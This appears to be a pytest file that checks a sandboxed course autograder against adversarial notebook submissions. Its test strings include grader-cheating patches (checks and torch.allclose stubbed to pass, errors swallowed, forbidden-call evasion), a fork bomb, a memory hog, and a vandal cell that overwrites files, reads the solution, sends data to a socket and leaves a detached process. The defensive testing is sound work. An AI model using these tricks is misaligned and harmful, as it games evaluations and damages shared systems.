"""Adversarial grading (issue 13): dishonest or careless submissions to lab 01, graded in ONE `grade` call
with an honest submission and a victim copy of it in the same folder. Attacks earn no points they did not
earn honestly, the victim, the gradebook and the course stay untouched, no process survives, and the
honest submission keeps full marks. Needs the sandbox (bubblewrap); CI installs it in .ci/run.
"""
import hashlib
import os
import socket
import subprocess
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from course_utils.instructor import gradebook, grading, sandbox
from course_utils.instructor.notebooks import nbgrader_meta, read_notebook
from course_utils.instructor.release import release_notebook, replace_solution

ROOT = Path(__file__).resolve().parents[1]
SOLUTION = ROOT / "solutions" / "01_attention.ipynb"
MARKER = "4242.5"  # a background process the vandal starts sleeps this long: none may survive grading
BOMB_MARKER = "4243.5"  # each child of the fork bomb sleeps this long

pytestmark = pytest.mark.skipif(sandbox.unavailable_reason() is not None,
                                reason=f"no sandbox here: {sandbox.unavailable_reason()}")


def after_imports(nb, source: str):
    """``nb`` with a code cell ``source`` right after its imports (the third cell)."""
    nb = nbformat.from_dict(nb)
    nb.cells.insert(3, new_code_cell(source))
    return nb


PATCH_CHECKS = """
checks.check_attention = lambda *a, **k: None
checks.check_masks = lambda *a, **k: None
checks.check_multi_head_attention = lambda *a, **k: None
"""
PATCH_TORCH = """
import torch, course_utils.checks as base
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
base.assert_close = lambda *a, **k: None
base.CheckError = type("Nothing", (Exception,), {})
"""
SWALLOW = """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
import builtins
builtins.NotImplementedError = type("Silent", (Exception,), {})
"""
CAPTURED_SDPA = """
_reference = torch.nn.functional.scaled_dot_product_attention  # captured before any check runs
"""
USES_CAPTURED = """
weights = torch.softmax((q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(
    ~mask if mask is not None else torch.zeros((), dtype=torch.bool), float("-inf")), dim=-1)
return _reference(q, k, v, attn_mask=mask), weights
"""
# Escapes from the forbidden-call trace (issue 24 §2): the oracle reached by another thread, with torch
# functions disabled and the mode stack popped, or inside a custom operator. Each earns what USES_CAPTURED earns.
WORKER_THREAD = """
import queue, threading
_inbox, _outbox = queue.Queue(), queue.Queue()
def _worker():
    for args in iter(_inbox.get, None):
        _outbox.put(torch.nn.functional.scaled_dot_product_attention(*args))
threading.Thread(target=_worker, daemon=True).start()
"""
USES_WORKER = """
weights = torch.softmax((q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(
    ~mask if mask is not None else torch.zeros((), dtype=torch.bool), float("-inf")), dim=-1)
_inbox.put((q, k, v, mask))
return _outbox.get(), weights
"""
USES_DISABLED = """
weights = torch.softmax((q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(
    ~mask if mask is not None else torch.zeros((), dtype=torch.bool), float("-inf")), dim=-1)
from torch.overrides import _pop_mode_temporarily
with _pop_mode_temporarily(), torch._C.DisableTorchFunction():
    out = torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask)
return out, weights
"""
CUSTOM_OP = """
@torch.library.custom_op("student::attend", mutates_args=())
def _attend(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, mask: torch.Tensor) -> torch.Tensor:
    return torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask)
"""
USES_CUSTOM_OP = """
weights = torch.softmax((q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(
    ~mask if mask is not None else torch.zeros((), dtype=torch.bool), float("-inf")), dim=-1)
full = mask if mask is not None else torch.ones(q.shape[-2], k.shape[-2], dtype=torch.bool)
return _attend(q, k, v, full), weights
"""
FORK_BOMB = f"""
import os
for _ in range(2000):  # bounded for the test; the sandbox's process limit stops it long before
    if os.fork() == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "{BOMB_MARKER}"])
        finally:
            os._exit(1)
"""
MEMORY_GRAB = """
hog = torch.ones(16 * 2**30, dtype=torch.uint8)  # 16 GiB
return hog, hog
"""


def vandal_cell(targets: dict, port: int) -> str:
    """Writes over other files, reads the solution, calls the network, leaves a process, floods output."""
    return f"""
import os, socket, subprocess, sys
for path in {[str(p) for p in targets['write']]!r}:
    try:
        with open(path, "w") as f:
            f.write("owned")
    except OSError as exc:
        print("write refused:", exc)
for path in {[str(p) for p in targets['read']]!r}:
    try:
        print(open(path).read()[:100])
    except OSError as exc:
        print("read refused:", exc)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
except OSError as exc:
    print("network refused:", exc)
for name in ("request.pkl", "answer.pt"):  # the grader's files in this folder: links to the victim
    os.symlink({str(targets['write'][0])!r}, name)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep({MARKER})"], start_new_session=True)
print("x" * 30_000_000)
open("/etc/hostname", "a").write("owned")  # refused: the rule shows in the gradebook if points are lost
"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    folder, out = root / "submissions", root / "out" / "grades.csv"
    folder.mkdir()
    out.parent.mkdir()
    out.write_text(",".join(gradebook.FIELDS) + "\n")  # an earlier (empty) gradebook
    solution = read_notebook(SOLUTION)
    lab = release_notebook(solution)
    heard = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)

    def listen():
        while not heard or heard[-1] != "stop":
            try:
                conn, _ = server.accept()
                heard.append(conn.recv(100).decode())
            except OSError:
                if heard[-1:] == ["stop"]:
                    return

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    course_file = ROOT / "course_utils" / "checks" / "attention.py"
    targets = {"write": [folder / "victim.ipynb", out, course_file, SOLUTION],
               "read": [SOLUTION, folder / "victim.ipynb"]}
    submissions = {
        "honest": solution,
        "patch_checks": after_imports(lab, PATCH_CHECKS),
        "patch_torch": after_imports(lab, PATCH_TORCH),
        "swallow_errors": after_imports(lab, SWALLOW),
        "forbidden_call": after_imports(replace_solution(solution, "attention_impl", USES_CAPTURED), CAPTURED_SDPA),
        "worker_thread": after_imports(replace_solution(solution, "attention_impl", USES_WORKER), WORKER_THREAD),
        "torch_function_off": replace_solution(solution, "attention_impl", USES_DISABLED),
        "custom_op": after_imports(replace_solution(solution, "attention_impl", USES_CUSTOM_OP), CUSTOM_OP),
        "memory_grab": replace_solution(solution, "attention_impl", MEMORY_GRAB),
        "fork_bomb": after_imports(lab, FORK_BOMB),
        "vandal": after_imports(solution, vandal_cell(targets, server.getsockname()[1])),
        "victim": solution,
    }
    paths = []
    for name, nb in submissions.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
        paths.append(folder / f"{name}.ipynb")
    protected = [folder / "victim.ipynb", course_file, SOLUTION]
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in protected}
    results = grading.grade(SOLUTION, paths, out, timeout=120, profile="ci")
    heard.append("stop")
    thread.join(timeout=5)
    server.close()
    after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in protected}
    survivors = subprocess.run(["pgrep", "-f", f"time.sleep\\({MARKER}\\)|sleep {BOMB_MARKER}"], capture_output=True,
                               text=True).stdout
    table = {}
    for r in results:
        table.setdefault(Path(r.submission).stem, {})[r.exercise] = r
    return {"table": table, "before": before, "after": after, "heard": heard[:-1], "survivors": survivors,
            "csv": out.read_text(), "submissions": submissions}


def points(rows) -> float:
    return sum(r.points for r in rows.values())


def max_points() -> float:
    return sum(float(nbgrader_meta(c).get("points", 0)) for c in grading.check_cells(read_notebook(SOLUTION)).values())


def test_honest_and_victim_keep_full_marks(attacked):
    for name in ("honest", "victim", "vandal"):  # the vandal's own exercises are honest work
        rows = attacked["table"][name]
        assert points(rows) == max_points() == 14, {k: r.message for k, r in rows.items()}


@pytest.mark.parametrize("name", ["patch_checks", "patch_torch", "swallow_errors"])
def test_tampering_in_the_kernel_earns_nothing(attacked, name):
    rows = attacked["table"][name]
    assert points(rows) == 0, {k: (r.points, r.message) for k, r in rows.items()}


# the exercises that call the student's attention: the function itself, multi-head, fused QKV, the KV-cached step
USE_ATTENTION = {"attention_check", "mha_check", "fused_check", "cache_check"}


def test_memory_grab_is_stopped_and_named(attacked):
    rows = attacked["table"]["memory_grab"]
    lost = {ex for ex, r in rows.items() if r.points < r.max_points}
    assert lost == USE_ATTENTION, {k: r.message for k, r in rows.items()}
    assert "memory limit" in rows["attention_check"].message, rows["attention_check"].message


@pytest.mark.parametrize("name", ["forbidden_call", "worker_thread", "torch_function_off", "custom_op"])
def test_forbidden_call_loses_the_exercises_that_use_it(attacked, name):
    rows = attacked["table"][name]
    lost = {ex for ex, r in rows.items() if r.points < r.max_points}
    assert lost == USE_ATTENTION, {k: r.message for k, r in rows.items()}
    message = rows["attention_check"].message
    assert "forbidden call" in message and ("scaled_dot_product" in message or "student::attend" in message), message


def test_nothing_outside_the_sandbox_changed(attacked):
    assert attacked["after"] == attacked["before"]
    assert "owned" not in attacked["csv"]
    exercises = len(grading.check_cells(read_notebook(SOLUTION)))
    rows = 1 + len(attacked["submissions"]) * exercises  # header + one row per submission and exercise
    assert attacked["csv"].count("\n") == rows


def test_no_network_and_no_surviving_process(attacked):
    assert attacked["heard"] == []
    assert attacked["survivors"] == ""


def test_a_fork_bomb_stops_at_the_process_limit_and_earns_nothing(attacked):
    rows = attacked["table"]["fork_bomb"]
    assert points(rows) == 0, {k: (r.points, r.message) for k, r in rows.items()}
    assert all("process limit" in r.message for r in rows.values()), {k: r.message for k, r in rows.items()}
